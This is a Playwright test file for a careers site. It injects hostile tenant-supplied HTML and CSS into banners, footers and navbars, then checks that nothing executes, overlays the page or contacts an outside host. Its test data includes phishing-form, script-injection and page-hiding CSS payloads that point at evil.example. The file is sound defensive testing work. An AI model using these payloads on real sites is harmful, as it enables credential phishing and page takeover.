import { existsSync, readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { configure, createTenant, importPositions } from '../src/operator.ts';
import { findOverflow } from '../src/page-checks.ts';
import { expectOnly } from '../src/page-errors.ts';
import { expect, test } from '../src/product-test.ts';

const BAD_INPUT = new URL('../../../../shared/data/06-bad-input/', import.meta.url);
const DOMAIN = 'hostile.example';

/** What no file has: attempts to leave the box, to cover the page and to ask for secrets. */
const OWN_ATTEMPTS = [
  '</div></nav></footer></main></body><h1 id="main">Mine</h1><div>',
  '<form action="https://evil.example"><input type="password" name="code"><button>Sign in</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">Cover</div>',
  '<a href="/careers"><div><a href="https://evil.example">x</a></div></a><b><p></b></p><table><a href="/x">y',
  '<plaintext><table><caption><b><script>ran()</script>',
  `<p class="shell oc-dialog navbar">${'W'.repeat(600)}</p><pre>${'x'.repeat(900)}</pre>`,
  `<table><tr>${'<td>wide</td>'.repeat(40)}</tr></table>`,
];
const HOSTILE_CSS = `} main { display: none } * { position: fixed; inset: 0; z-index: 99999; width: 300vw; height: 300vh }
a { position: absolute; inset: -9999px; background: url(https://evil.example/x) } ~ main { display: none }
body, html, :root, .shell { display: none } @import "https://evil.example/x.css"; </style><script>ran()</script>`;

// Where the folder is absent, our own attempts are made alone.
const read = (path: string, none: string) =>
  existsSync(BAD_INPUT) ? readFileSync(new URL(path, BAD_INPUT), 'utf8') : none;
const readLines = (path: string) => read(path, '').split('\n').filter(Boolean);
const readList = (path: string) => JSON.parse(read(path, '[]')) as string[];

/** The same hostile HTML and name in every part around a page. */
function partsOf(html: string, name: string): object {
  const banner = { enabled: true, message: html.slice(0, 2_000).toWellFormed() };
  const hero = {
    enable: true,
    text: name.slice(0, 200).toWellFormed(),
    subText: name.slice(0, 200).toWellFormed(),
  };
  return {
    instanceBannerData: { displayBanner: true, displayText: banner.message },
    pcsxConfig: {
      branding: {
        companyName: name.slice(0, 100).toWellFormed(),
        privacyHtml: html,
        customPageSections: {
          footer: html,
          customNavbarConfig: { enable: true, showInLoggedinView: true, html, css: HOSTILE_CSS },
          customPcsBanner: { default: banner },
        },
        heroImageConfig: { default: hero },
        socialLinks: [{ label: hero.text || 'x', url: 'https://a.example/' }],
      },
      loggedOutNotificationConfig: {
        enabled: true,
        showNotificationsPrivacyPolicyCheckbox: true,
        privacyText: html,
      },
    },
  };
}

/** What is wrong with the page: something of the company runs, asks, covers, or has left its box. */
async function findBreakOuts(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const boxes = [...document.querySelectorAll('.tenant-html')];
    const forbidden =
      'script, style, form, input, button, iframe, object, embed, svg, link, meta, base, h1, [style], [id]';
    const inside = boxes.flatMap((box) =>
      [...box.querySelectorAll(forbidden)].map((element) => element.outerHTML),
    );
    const strays = [...document.querySelectorAll('[class*="tenant-"]')].filter(
      (element) => !element.closest('.tenant-html'),
    );
    const leaks = boxes.filter((box) => box.querySelector('main, .shell, .search-page') !== null);
    const main = document.querySelector('main');
    const input = main?.querySelector('input');
    // A long banner stands before it, not over it.
    input?.scrollIntoView({ block: 'center' });
    const field = input?.getBoundingClientRect();
    const top = field && document.elementFromPoint(field.x + field.width / 2, field.y + field.height / 2);
    return [
      ...inside.map((html) => `in a box: ${html.slice(0, 100)}`),
      ...strays.map((element) => `outside of its box: ${element.outerHTML.slice(0, 100)}`),
      ...leaks.map(() => 'the page is inside a box'),
      ...(document.querySelectorAll('h1').length === 1 ? [] : ['not one heading of the first level']),
      ...(document.querySelectorAll('main').length === 1 ? [] : ['not one main part']),
      ...(top instanceof Element && main?.contains(top) && !top.closest('.tenant-html')
        ? []
        : ['the search is covered']),
      ...('ran' in window ? ['a script ran'] : []),
    ];
  });
}

test('[CHROME-04] [CHROME-05] [CHROME-07] [CHROME-09] hostile texts of a company run nothing, ask nothing, cover nothing', async ({
  page,
  server,
  pageErrors,
}) => {
  test.setTimeout(180_000);
  await createTenant(server, DOMAIN, 'Hostile');
  await importPositions(server, DOMAIN, [
    { sourceId: '1', title: 'Boatbuilder', descriptionHtml: '<p>Boats.</p>' },
  ]);
  const dialogs: string[] = [];
  const outside: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) outside.push(request.url());
  });
  const html = readLines('strings/html-descriptions.shared.jsonl').map(
    (line) => (JSON.parse(line) as { html: string }).html,
  );
  const names = [
    ...readList('strings/person-names.shared.json'),
    ...readList('naughty-strings/blns.json'),
  ].filter((name) => !name.includes('\0') && name.isWellFormed());
  const groups = (texts: string[], size: number) =>
    Array.from({ length: Math.ceil(texts.length / size) }, (_, at) =>
      texts.slice(at * size, (at + 1) * size).join(' '),
    );
  const cases = [
    ...OWN_ATTEMPTS,
    ...groups(html, 6),
    ...groups(names, 60),
    [...OWN_ATTEMPTS, ...html].join(''),
  ];
  for (const [at, text] of cases.entries()) {
    // Our own are names as well: one long word each.
    const name = at < OWN_ATTEMPTS.length ? text : (names[at * 7] ?? text);
    const parts = partsOf(text, name) as Record<string, unknown>;
    for (const [path, value] of Object.entries(parts)) await configure(server, DOMAIN, { path, value });
    await page.setViewportSize({ width: at % 2 === 0 ? 320 : 1280, height: 800 });
    await page.goto(`/careers?domain=${DOMAIN}`);
    // The offer of news comes when somebody is near.
    await page.locator('.news-slot').scrollIntoViewIfNeeded();
    await expect(page.locator('.news-offer')).toBeVisible();
    expect([text.slice(0, 80), await findBreakOuts(page)]).toEqual([text.slice(0, 80), []]);
    expect([text.slice(0, 80), await findOverflow(page)]).toEqual([text.slice(0, 80), []]);
    expect((await page.locator('.navbar__inner').boundingBox())?.height).toBe(60);
  }
  expect(dialogs).toEqual([]);
  expect(outside).toEqual([]);
  // Pictures of names that do not exist are asked for and not found; nothing else may fail.
  expectOnly(pageErrors, /Failed to load resource/);
});
